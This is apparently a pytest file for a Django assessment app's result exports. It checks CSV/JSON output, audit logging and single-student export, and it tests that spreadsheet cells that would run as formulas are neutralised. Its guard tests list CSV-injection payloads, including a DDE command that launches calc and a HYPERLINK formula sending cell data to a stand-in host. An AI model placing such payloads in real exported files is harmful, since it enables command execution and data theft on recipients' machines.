"""Files of results: a project's finished attempts in CSV and JSON, and all about one student."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from django.utils import timezone

from assessments.keeping import exports
from assessments.models import AssessmentLink, Attempt, PrivateLink, Student
from measurement.scales import INTERESTS, PREFERENCES
from partners.models import AuditEvent
from partners.spreadsheet import BYTE_ORDER_MARK, csv_lines, harmless, without_guard
from tests.assessments.attempts import answer_until, completed, issue, marked_completed, started
from tests.factories import BY, CourseFactory
from tests.support.commands import run

pytestmark = pytest.mark.usefixtures("bank")
AT = datetime(2026, 11, 21, 9, 30, tzinfo=UTC)


def export(project, file="csv", **arguments):
    with time_machine.travel(AT + timedelta(days=1)):
        pieces = exports.results(project, file, by=BY, **arguments)
        return rows_of("".join(pieces), file)


def rows_of(text, file):
    if file == "csv":
        return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    return json.loads(text)


@pytest.fixture
def done(project):
    CourseFactory.create(project=project, name="Botany", order=1)
    CourseFactory.create(project=project, name="Welding; basics", order=2)
    attempt = answer_until(started(project, AT), 6, AT)
    return completed(attempt, AT + timedelta(seconds=90))


def test_a_completed_attempt_is_a_row_with_its_figures(done, project):
    [row] = export(project)

    assert list(row) == list(exports.COLUMNS)
    profile = done.profile or {}
    assert row == {
        "AssessmentId": done.assessment_id,
        "email": "asha.rao@example.com",
        "name": "Asha Rao",
        "Status": "Completed",
        "startedAt": "2026-11-21T09:30:00Z",
        "endedAt": "2026-11-21T09:31:30Z",
        "AssessmentDuration": "1m 30s",
        "Recommendations": "\n".join(done.recommended_names),
        "language": "en",
        "lowEffort": "\n".join(done.validity.flags),
        **{f"interest_{n}": str(profile["interests"][n]["mean"]) for n in INTERESTS},
        **{
            f"aptitude_{n}": str(profile["aptitude"].get(n, {}).get("theta", ""))
            for n in ("overall", "numerical", "abstract", "verbal")
        },
        **{f"preference_{n}": str(profile["preferences"][n]["mean"]) for n in PREFERENCES},
    }
    # A name may hold any sign, and is whole again in a list.
    assert row["Recommendations"].split("\n") == ["Botany", "Welding; basics"]


def test_in_csv_nothing_is_executed(done, project):
    Student.objects.update(name="Named later", email="=cmd@x.co")
    AssessmentLink.objects.update(name="@SUM(A1)")
    Attempt.objects.update(recommendations=[{"name": "B"}, {"name": "=HYPERLINK(1)"}])

    file = "".join(exports.results(project, "csv", by=BY))

    [row] = rows_of(file, "csv")
    assert (row["name"], row["email"]) == ("'@SUM(A1)", "'=cmd@x.co")
    assert row["Recommendations"] == "B\n'=HYPERLINK(1)"
    assert all(line.startswith('"') for line in file.removeprefix("\ufeff").split("\r\n")[:-1])


@pytest.mark.sqlite
def test_the_command_prints_the_file_alone_and_each_export_is_in_the_audit_trail(done, project):
    name, project_id = "export_results", project.project_id

    files = [
        rows_of(run(name, project_id)[0], "csv"),
        rows_of(run(name, project_id, "--json")[0], "json"),
        rows_of(run(name, project_id, "--since", "2100-01-01")[0], "csv"),
        rows_of(run(name, project_id, "--json", "--since", "2100-01-01")[0], "json"),
    ]

    found = [[row["AssessmentId"] for row in rows] for rows in files]
    assert found == [[done.assessment_id], [done.assessment_id], [], []]
    events = AuditEvent.objects.filter(action="results.exported").order_by("pk")
    assert [event.reason for event in events] == [
        "csv, attempts 1",
        "json, attempts 1",
        "csv, attempts 0, ended since 2100-01-01",
        "json, attempts 0, ended since 2100-01-01",
    ]
    assert {(event.object_id, event.project) for event in events} == {(project_id, project)}


@pytest.mark.sqlite
def test_all_about_one_student_without_digests_and_without_anybody_else(done, project):
    issue(project)
    AuditEvent.record("student.read", done.student, by=BY)
    other = marked_completed(started(project, AT, email="b@example.com", name="Mira Sen"), AT)
    private_link, key = PrivateLink.objects.make(done, with_puzzles=True, seen_version="", at=AT)

    text, _ = run("export_student", project.project_id, "asha.rao@example.com")

    person = json.loads(text)
    assert (person["project"], person["name"]) == (project.project_id, "Asha Rao")
    assert (person["email"], person["mobile"]) == ("asha.rao@example.com", "+919876543201")
    links = [(link["mobile"], link["cancelled_at"]) for link in person["links"]]
    assert links == [("+91 98765 43201", None)] * 2
    [attempt] = person["attempts"]
    expected = {
        "assessment_id": done.assessment_id,
        "bank": done.bank.version,
        "status": "Completed",
        "kept_until": "2028-11-21",
        "profile": done.profile,
    }
    assert {name: attempt[name] for name in expected} == expected
    first, item = attempt["answers"][0], done.answers.get(position=1).item
    columns = "position item text choice shown_at answered_at language replaced_at"
    assert len(attempt["answers"]) == done.answers.count()
    assert set(columns.split()) == set(first)
    assert (first["item"], first["text"]) == (item.code, item.content["text"]["en"])
    [link] = attempt["private_links"]
    assert link.keys() == {"created_at", "expires_at", "ended_at", "with_puzzles", "with_ideas"}
    assert link["with_puzzles"] is True
    actions = [event["action"] for event in person["audit_events"]]
    assert actions == ["results.exported", "student.read"]
    digests = (done.browser_digest, done.links.get().token_digest, private_link.key_digest, key)
    assert not [each for each in (other.assessment_id, "Mira", *digests) if each in text]


def test_csv_is_streamed_as_a_file(staff, project):
    exporter = staff("assessments.export_results")
    marked_completed(started(project))
    address = f"/admin/assessments/projectfigures/{project.pk}/export/"
    answer = exporter.post(address, {"since": ""})

    rows = rows_of(answer.getvalue().decode(), "csv")
    assert [row["email"] for row in rows] == ["asha.rao@example.com"]
    name = f"results-{project.project_id}-{timezone.now():%Y-%m-%d}.csv"
    assert answer.headers["Content-Disposition"] == f'attachment; filename="{name}"'
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in answer.headers["Cache-Control"]
    event = AuditEvent.objects.get(action="results.exported")
    assert event.reason == "csv, attempts 1"
    assert event.actor.startswith("staff:")


@pytest.mark.parametrize("since", ["soon", "2026-02-30"])
def test_what_is_no_date_exports_nothing(project, staff, since):
    exporter = staff("assessments.export_results")
    marked_completed(started(project))
    address = f"/admin/assessments/projectfigures/{project.pk}/export/"
    page = exporter.post(address, {"since": since})

    assert list(page.context["form"].errors) == ["since"]
    assert not AuditEvent.objects.filter(action="results.exported").exists()


# A valid e-mail address, formulas, and signs that are wide or follow a space of some kind.
EXECUTED = ["=cmd@x.co", '=HYPERLINK("https://x.example?"&A1,"Click")', "=cmd|' /C calc'!A0"]
EXECUTED += ["+919876543210-1", "+9 1", "++91", "+", "-91", "＋91", "+९१", "@SUM(A1:A9)", "-"]
EXECUTED += ["\t=1", " =1+1", "\u00a0=1", "\u3000=1", "\ufeff=1", "＝1+1", "\u3000＝1"]
HARMLESS = ["+919876543210", "", "Asha Rao", "asha=rao@example.com", "1-2", "'=1", '"=1"', "a\nb"]
HARMLESS += ["O'Brien; =1"]
CELLS = {**{text: f"'{text}" for text in EXECUTED}, **{text: text for text in HARMLESS}}


@pytest.mark.parametrize(("text", "cell"), CELLS.items())
def test_a_text_that_would_be_executed_gets_an_apostrophe(text, cell):
    assert harmless(text) == cell

    # A reader finds the cells again.
    file = "".join(csv_lines(["a", "b"], [[text, "end"]]))
    found = csv.reader(io.StringIO(file.removeprefix(BYTE_ORDER_MARK), newline=""))
    assert list(found) == [["a", "b"], [cell, "end"]]


@pytest.mark.parametrize("value", [0, -1, -0.5, None, 3.25])
def test_a_number_of_ours_stays_one(value):
    assert harmless(value) is value


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        *(("'=1+1", "=1+1"), ("'+919876543210", "+919876543210"), ("+91", "+91")),
        *((each, each) for each in ("O'Brien", "'tis", "'", "''=1")),
    ],
)
def test_an_apostrophe_is_taken_off_what_would_be_executed_and_off_a_number(cell, text):
    assert without_guard(cell) == text
